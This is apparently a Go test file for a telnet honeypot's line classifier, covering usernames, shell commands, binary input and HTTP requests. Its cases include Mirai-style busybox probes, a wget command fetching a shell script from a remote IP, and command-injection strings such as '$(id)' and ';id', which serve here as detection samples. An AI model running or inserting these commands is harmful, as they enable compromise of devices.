package telnet

import "testing"

func TestClassify(t *testing.T) {
	for _, tc := range []struct {
		line string
		want lineClass
	}{
		{"", lineEmpty},
		{"admin", lineUser},
		{"root", lineUser},
		{"Administrator", lineUser},
		{"666666", lineUser},
		{"admin admin", lineUser},
		{"user@example", lineUser},
		{"système", lineUser},
		{"enable", lineCommand},
		{"system", lineCommand},
		{"shell", lineCommand},
		{"sh", lineCommand},
		{"linuxshell", lineCommand},
		{"/bin/busybox MIRAI", lineCommand},
		{"/bin/busybox", lineCommand},
		{"./dvrHelper", lineCommand},
		{"cd /tmp", lineCommand},
		{"wget http://198.51.100.1/x.sh", lineCommand},
		{"busybox wget http://x/y", lineCommand},
		{"x;id", lineCommand},
		{"a|b", lineCommand},
		{"a && b", lineCommand},
		{"`id`", lineCommand},
		{"$(id)", lineCommand},
		{"${IFS}", lineCommand},
		{"echo>f", lineCommand},
		{"shells", lineUser}, // whole words only
		{"Enable", lineUser}, // the shell is case-sensitive
		{"$admin", lineUser},
		{"ad\x1bmin", lineBinary},
		{"ad\tmin", lineBinary},
		{"ad\x7fmin", lineBinary},
		{"ad\xffmin", lineBinary},
		{"\x00\x01\x02", lineBinary},
		{"cd\x00/tmp", lineBinary},
		{"GET / HTTP/1.1", lineHTTP},
		{"CONNECT example.com:443 HTTP/1.1", lineHTTP},
		{"GET /", lineUser},
		{"Get / HTTP/1.0", lineUser},
	} {
		if got := classify([]byte(tc.line)); got != tc.want {
			t.Errorf("classify(%q) = %v, want %v", tc.line, got, tc.want)
		}
	}
}

func TestTrimBlank(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""}, {"  ", ""}, {" a ", "a"}, {"\t\va b\f ", "a b"}, {"a", "a"},
	} {
		if got := string(trimBlank([]byte(tc.in))); got != tc.want {
			t.Errorf("trimBlank(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
